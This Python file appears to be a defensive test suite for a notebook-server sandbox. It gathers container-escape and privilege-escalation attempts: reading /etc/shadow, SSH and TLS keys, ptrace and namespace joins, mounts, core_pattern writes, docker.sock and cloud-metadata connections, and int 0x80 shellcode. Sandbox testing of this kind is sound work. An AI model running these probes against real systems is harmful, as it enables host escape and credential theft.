"""What a hostile visitor tries from inside of a notebook. Posted as source code to the stand-in server there.

So it imports nothing of ours, and runs in whatever Python there is: see `test_attacks.py`. Each attack is a function
that returns what it got; nothing, or an `OSError`, means that it was refused. `KNOWN` is what the test tells: more
than a visitor would know (where the other notebook's files are, which ports and sockets the host has).
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import functools
import glob
import json
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import subprocess
import tempfile
from collections.abc import Callable, Iterable, Iterator
from typing import Any

KNOWN: dict[str, Any] = {}

_libc = ctypes.CDLL(None, use_errno=True)
_column = {"x86_64": 0, "aarch64": 1}[platform.machine()]
_CALLS = {
    "setxattr": (188, 5), "fcntl": (72, 25), "fallocate": (285, 47), "clone": (56, 220),
    "socket": (41, 198), "ptrace": (101, 117), "keyctl": (250, 219), "add_key": (248, 217), "request_key": (249, 218),
    "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "chroot": (161, 51), "unshare": (272, 97),
    "setns": (308, 268), "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "kexec_load": (246, 104), "init_module": (175, 105), "syslog": (103, 116),
    "personality": (135, 92), "swapon": (167, 224), "reboot": (169, 142), "sethostname": (170, 161),
    "settimeofday": (164, 170), "acct": (163, 89), "open_by_handle_at": (304, 265), "fanotify_init": (300, 262),
    "kcmp": (312, 272), "fsopen": (430, 430), "open_tree": (428, 428), "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438), "process_vm_readv": (310, 270), "quotactl": (179, 60), "capset": (126, 91),
    "fsetxattr": (190, 7),
}  # fmt: skip

ATTACKS: dict[str, Callable[[], Any]] = {}


def attack(function: Callable[[], Any]) -> Callable[[], Any]:
    ATTACKS[function.__name__] = function
    return function


def call(name: str, *arguments: Any) -> int:
    """A system call by its number; raises `OSError`."""
    return raw(_CALLS[name][_column], *arguments)


def raw(number: int, *arguments: Any) -> int:
    values = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    _libc.syscall.restype = ctypes.c_long
    done = int(_libc.syscall(ctypes.c_long(number), *values))
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done


def in_a_child(action: Callable[[], Any]) -> str:
    """What an action got that may kill or change the process that does it."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            signal.alarm(20)
            got = action()
            os.write(writer, str(got or "").encode()[:4000])
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as file:
        got = file.read().decode()
    os.waitpid(pid, 0)
    return got


def each(action: Callable[[Any], Any], values: Iterable[Any]) -> list[str]:
    """What an action got of each of several things."""
    found = []
    for value in values:
        with contextlib.suppress(OSError, ValueError, OverflowError):
            if got := action(value):
                found.append(f"{value}: {str(got)[:200]}")
    return found


def done(action: Callable[..., Any], *arguments: Any) -> str:
    """For what returns nothing, or 0, when it succeeds."""
    action(*arguments)
    return "done"


def opened(path: str, flags: int = os.O_RDWR | os.O_NONBLOCK) -> str:
    return done(os.close, os.open(path, flags))


def which(actions: dict[str, Callable[[], Any]]) -> list[str]:
    """The actions that got something, each in a process of its own."""
    return [name for name, action in actions.items() if in_a_child(action)]


def others() -> Iterator[str]:
    """Ids of processes that are not this one's."""
    return (pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid())


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(1 << 20)


# --- files


@attack
def files_of_the_host() -> Any:
    secret = KNOWN["secret"]
    roots = ["", "/proc/1/root", *(f"/proc/{pid}/{way}" for pid in others() for way in ("root", "cwd"))]
    paths = [root + secret for root in roots]
    paths += [KNOWN["beside"], *glob.glob("/etc/ssl/private/*"), *glob.glob("/etc/pki/tls/private/*")]
    paths += ["/etc/shadow", "/root/.bashrc", "/root/.ssh", "/var/lib/docker", "/var/log/syslog", "/boot", "/host"]
    return each(read, paths) + each(os.listdir, [KNOWN["runtime_dir"]])


@attack
def files_of_the_other_notebook() -> Any:
    found = []
    for top in ("/home", "/tmp", "/dev/shm", "/run", "/var/tmp", "/mnt"):
        for directory, _, names in os.walk(top):
            found += [f"{directory}/{name}" for name in names if KNOWN["marker"] in name]
    return found


@attack
def descriptors_that_were_left_open() -> Any:
    """Beyond input and output: all that this server opened itself is closed on exec."""
    program = """import os
for fd in os.listdir('/proc/self/fd'):
    try: print(fd, os.readlink('/proc/self/fd/' + fd))
    except OSError: pass"""
    shown = subprocess.run(["python3", "-c", program], capture_output=True, text=True, close_fds=False, check=False)
    lines = (line.partition(" ") for line in shown.stdout.splitlines())
    return [f"{fd} {what}" for fd, _, what in lines if int(fd) > 2 and what != "/dev/null"]


@attack
def the_hosts_disk() -> Any:
    """Space on the host's disk, by whatever is open for writing or can be written."""
    found = []
    for mount in read("/proc/self/mountinfo").decode().splitlines():
        fields = mount.split()
        path, kind = fields[4], fields[fields.index("-") + 1]
        if kind not in ("tmpfs", "proc", "devpts", "devtmpfs", "mqueue", "sysfs", "cgroup", "cgroup2"):
            found += each(_written, [path])
    return found + each(_reserved, [(fd, mode) for fd in (0, 1, 2) for mode in (0, 1, 16, 17)])


def _written(path: str) -> Any:
    if not os.path.isdir(path):
        with open(path, "r+b"):
            return path
    with tempfile.TemporaryFile(dir=path):
        return path


def _reserved(one: tuple[int, int]) -> Any:
    fd, mode = one
    before, size = os.fstat(fd).st_blocks, 256 << 20
    call("fallocate", fd, mode, 0, size)
    more = os.fstat(fd).st_blocks - before
    call("fallocate", fd, 3, 0, size)
    return f"{more * 512} bytes" if more * 512 > (64 << 20) else None


@attack
def the_log_file() -> Any:
    """What may be done to the file behind standard output, which somebody else reads."""
    return which(
        {
            "lease": lambda: done(call, "fcntl", 1, 1024, 1),
            "attribute": lambda: done(call, "fsetxattr", 1, b"user.tmpnb", b"x" * 1000, 1000, 0),
            "attribute by path": lambda: done(call, "setxattr", b"/proc/self/fd/1", b"user.tmpnb2", b"x", 1, 0),
        }
    )


# --- processes


@attack
def processes_of_others() -> Any:
    found = []
    for pid in others():
        for name in ("environ", "cmdline", "maps"):
            with contextlib.suppress(OSError):
                text = read(f"/proc/{pid}/{name}").decode(errors="replace")
                found += [f"{name} of {pid}" for word in KNOWN["foreign_words"] if word in text]
    return found


@attack
def signals_to_the_host() -> Any:
    return each(lambda pid: done(os.kill, pid, 0), KNOWN["pids"])


@attack
def unfiltered_processes() -> Any:
    """Whoever can steer a process that no filter binds makes every call through it."""
    unbound = []
    for pid in others():
        with contextlib.suppress(OSError):
            if "Seccomp:\t0" in read(f"/proc/{pid}/status").decode():
                unbound.append(pid)
    ways: tuple[Callable[[str], Any], ...] = (
        _traced,
        lambda pid: opened(f"/proc/{pid}/mem"),
        lambda pid: [os.readlink(path) for path in glob.glob(f"/proc/{pid}/fd/*")],
        lambda pid: os.listdir(f"/proc/{pid}/root"),
        lambda pid: call("pidfd_getfd", call("pidfd_open", int(pid), 0), 1, 0),
    )
    return [one for way in ways for one in each(way, unbound)]


def _traced(pid: str) -> str:
    call("ptrace", 0x4206, int(pid), 0, 0)  # PTRACE_SEIZE: does not stop it
    return done(call, "ptrace", 17, int(pid), 0, 0)


@attack
def more_than_its_limits() -> Any:
    def more_files() -> Any:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
        return resource.getrlimit(resource.RLIMIT_NOFILE)

    def core() -> Any:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
        return "core files"

    def safe() -> Any:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-500")
        return "killed last"

    return which(
        {
            "files": more_files,
            "core": core,
            "killed last": safe,
            "nice": lambda: done(os.setpriority, os.PRIO_PROCESS, 0, -5),
            "real time": lambda: done(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1)),
        }
    )


@attack
def more_processes_than_its_limit() -> Any:
    children = []
    try:
        for _ in range(KNOWN["pids_limit"] + 20):
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children) if len(children) >= KNOWN["pids_limit"] else None


# --- becoming somebody else


@attack
def other_users() -> Any:
    return which(
        {
            "setuid": lambda: done(os.setuid, 0),
            "setgid": lambda: done(os.setgid, 0),
            "setgroups": lambda: done(os.setgroups, [0]),
            "setresuid": lambda: done(os.setresuid, 0, 0, 0),
            "capset": _all_capabilities,
            "chown": lambda: done(os.chown, tempfile.mkdtemp(), 0, 0),
        }
    )


def _all_capabilities() -> Any:
    header = struct.pack("Ii", 0x20080522, 0)
    call("capset", header, struct.pack("6I", *[0xFFFFFFFF] * 6))
    return read("/proc/self/status").decode().partition("CapEff:")[2].split()[0]


@attack
def programs_with_another_users_rights() -> Any:
    status = read("/proc/self/status").decode()
    if "NoNewPrivs:\t1" in status:
        return None
    found = glob.glob("/usr/bin/*") + glob.glob("/bin/*") + glob.glob("/usr/sbin/*")
    return [path for path in found if os.stat(path).st_mode & 0o6000]


@attack
def capabilities() -> Any:
    status = read("/proc/self/status").decode()
    sets = {name: status.partition(f"{name}:")[2].split()[0] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")}
    return {name: value for name, value in sets.items() if int(value, 16)}


# --- namespaces, mounts


@attack
def new_namespaces() -> Any:
    flags = {"mnt": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000}
    flags |= {"pid": 0x20000000, "net": 0x40000000}
    found = []
    for name, flag in flags.items():
        for way in (_unshared, _unshared_as_root, _cloned):
            found += [f"{name}{way.__name__}"] if in_a_child(functools.partial(way, flag)) else []
    return found


def _unshared(flag: int) -> str:
    return done(call, "unshare", flag)


def _unshared_as_root(flag: int) -> str:
    return _unshared(0x10000000 | flag)


def _cloned(flag: int) -> Any:
    pid = call("clone", 17 | flag, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid


@attack
def namespaces_of_others() -> Any:
    found = []
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        with contextlib.suppress(OSError):
            if os.readlink(path) != os.readlink(path.replace(path.split("/")[2], "self", 1)):
                fd = os.open(path, os.O_RDONLY)
                if in_a_child(functools.partial(done, call, "setns", fd, 0)):
                    found.append(path)
                os.close(fd)
    return found


@attack
def mounts() -> Any:
    return which(
        {
            "mount": lambda: done(call, "mount", b"none", b"/tmp", b"tmpfs", 0, 0),
            "bind": lambda: done(call, "mount", b"/", b"/tmp", 0, 4096, 0),
            "remount": lambda: done(call, "mount", 0, b"/", 0, 32, 0),
            "umount": lambda: done(call, "umount2", b"/proc", 2),
            "chroot": lambda: done(os.chroot, "/tmp"),
            "pivot_root": lambda: done(call, "pivot_root", b"/tmp", b"/tmp"),
            "fsopen": lambda: call("fsopen", b"tmpfs", 0),
            "open_tree": lambda: call("open_tree", -100, b"/", 1),
            "open_by_handle_at": _by_handle,
        }
    )


def _by_handle() -> Any:
    """The host's root directory, by inode 2 of the file system that something here is of."""
    directory = os.open("/usr", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("IiIi", 8, 1, 2, 0), 16)
    return call("open_by_handle_at", directory, handle, 0)


# --- the kernel


@attack
def parts_of_the_kernel() -> Any:
    zeros = ctypes.create_string_buffer(256)
    event = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 112, 0, 0), 112)
    return which(
        {
            "bpf": lambda: call("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 128), 128),
            "perf_event_open": lambda: call("perf_event_open", event, 0, -1, -1, 0),
            "userfaultfd": lambda: call("userfaultfd", 1),
            "io_uring": lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)),
            "kexec_load": lambda: done(call, "kexec_load", 0, 0, 0, 0),
            "init_module": lambda: call("init_module", zeros, 1, b""),
            "syslog": lambda: call("syslog", 3, zeros, 255),
            "personality": lambda: done(call, "personality", 0x0400000),
            "swapon": lambda: done(call, "swapon", b"/dev/null", 0),
            "reboot": lambda: done(call, "reboot", 0xFEE1DEAD, 672274793, 0, 0),
            "sethostname": lambda: done(call, "sethostname", b"owned", 5),
            "settimeofday": lambda: done(call, "settimeofday", struct.pack("qq", 0, 0), 0),
            "acct": lambda: done(call, "acct", 0),
            "fanotify": lambda: call("fanotify_init", 0x200, 0),
            "kcmp": lambda: call("kcmp", os.getpid(), os.getpid(), 0, 0, 1) + 1,
            "quotactl": lambda: done(call, "quotactl", 0x800001, 0, 0, 0),
        }
    )


@attack
def kernel_settings() -> Any:
    names = ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "kernel/hostname", "fs/binfmt_misc/register")
    paths = [*(f"/proc/sys/{name}" for name in names), "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"]
    for pattern in ("*/memory.limit_in_bytes", "*/cgroup.procs", "cgroup.procs", "*/release_agent"):
        paths += glob.glob(f"/sys/fs/cgroup/{pattern}")
    return each(lambda path: opened(path, os.O_WRONLY), paths)


@attack
def what_the_kernel_tells_of_the_machine() -> Any:
    paths = ("/proc/keys", "/proc/kcore", "/proc/timer_list", "/proc/sched_debug", "/proc/kmsg", "/dev/kmsg")
    return each(read, paths)


@attack
def keyrings() -> Any:
    found = each(lambda one: call("keyctl", 0, one, 1), (-1, -3, -4, -5))
    found += each(lambda ring: call("add_key", b"user", b"tmpnb-attack", b"x", 1, ring), [-5])
    return found + each(lambda key: call("request_key", b"user", key.encode(), 0, 0), [KNOWN["key"]])


@attack
def the_other_interface() -> Any:
    """System calls as 32-bit programs make them, whose numbers are others: keyctl is 288 there."""
    if _column:
        return None
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; eax, ebx, ecx = the arguments; edx, esi = 0; int 0x80; pop rbx; ret
    page.write(bytes.fromhex("53 89f8 89f3 89d1 31d2 31f6 cd80 5b c3"))
    interrupt = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)
    made = interrupt(ctypes.addressof(ctypes.c_char.from_buffer(page)))

    def by_interrupt() -> Any:
        serial = made(288, 0, -3)
        return serial if serial > 0 else None

    return [got for action in (by_interrupt, lambda: raw(0x40000000 | 250, 0, -3, 0)) if (got := in_a_child(action))]


# --- sockets


@attack
def families_of_sockets() -> Any:
    kinds = {"vsock": (40, 1, 0), "packet": (17, 3, 0x300), "raw": (2, 3, 1), "alg": (38, 5, 0), "can": (29, 3, 1)}
    kinds |= {"tipc": (30, 5, 0), "bluetooth": (31, 3, 1), "key": (15, 3, 2), "rds": (21, 5, 0), "xdp": (44, 3, 0)}
    kinds |= {
        "uevent": (16, 3, 15),
        "audit": (16, 3, 9),
        "netfilter": (16, 3, 12),
        "diag": (16, 3, 4),
        "qipcrtr": (42, 2, 0),
    }

    def made(name: str) -> Any:
        with socket.socket(*kinds[name]):
            return "made"

    return each(made, kinds)


@attack
def sockets_of_the_host() -> Any:
    def connected(address: Any) -> Any:
        with socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET) as probe:
            probe.settimeout(1)
            probe.connect(address)
            return "connected"

    paths = ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"]
    paths += ["/run/systemd/private", "/run/systemd/journal/stdout", "/run/user/0/bus", "/run/snapd.socket"]
    paths += KNOWN["sockets"] + [f"/proc/{pid}/root{path}" for pid in others() for path in KNOWN["sockets"]]
    addresses = [("127.0.0.1", KNOWN["port"]), ("169.254.169.254", 80), ("192.0.2.1", 80)]
    addresses += [(one, KNOWN["port"]) for one in KNOWN["addresses"]]
    return each(connected, [*paths, *(f"\0{name}" for name in KNOWN["abstract"]), *addresses])


@attack
def names_of_the_internet() -> Any:
    with contextlib.suppress(OSError), open("/etc/resolv.conf") as file:
        for line in file:
            if line.startswith("nameserver"):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
                    probe.settimeout(1)
                    probe.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x07example\x03org\0\0\1\0\1", (line.split()[1], 53))
                    return probe.recv(512)
    return None


@attack
def memory_that_is_shared() -> Any:
    shmget = _libc.shmget
    shmget.restype = ctypes.c_int
    found = [f"segment {KNOWN['shm_key']}"] if shmget(KNOWN["shm_key"], 0, 0) >= 0 else []
    return found + each(os.listdir, ["/dev/mqueue"])


# --- devices


@attack
def devices() -> Any:
    usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
    found = []
    for directory, _, names in os.walk("/dev"):
        if directory in ("/dev/pts", "/dev/shm", "/dev/mqueue"):
            continue
        for name in set(names) - usual:
            path = f"{directory}/{name}"
            found += [] if os.path.islink(path) else each(opened, [path])

    found += each(lambda path: done(os.mknod, path, 0o020666, os.makedev(1, 1)), [f"/tmp/{os.getpid()}"])
    return found + each(opened, ["/dev/tty"])


@attack
def another_root_directory() -> Any:
    """The files that a first process sees: the way out where it is the host's."""
    with contextlib.suppress(OSError):
        one, own = os.stat("/proc/1/root/."), os.stat("/")
        return (one.st_dev, one.st_ino) != (own.st_dev, own.st_ino)


def main() -> None:
    got: dict[str, list[str]] = {}
    for name, function in ATTACKS.items():
        try:
            found = function()
        except OSError as error:
            found = None if error.errno != errno.EMFILE else "no descriptors left"
        if found:
            got[name] = [str(one) for one in found] if isinstance(found, list) else [str(found)]
    print(json.dumps(got))
